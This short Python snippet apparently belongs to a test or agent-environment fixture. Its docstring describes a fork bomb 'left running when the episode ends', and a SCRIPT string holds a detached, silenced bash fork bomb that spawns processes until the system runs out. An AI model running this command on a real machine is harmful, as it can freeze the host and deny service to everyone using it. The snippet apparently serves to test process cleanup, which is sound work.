"""A fork bomb, left running when the episode ends."""

SCRIPT = r"""
(setsid bash -c 'f() { f | f & }; f' >/dev/null 2>&1 &)
sleep 0.5
"""
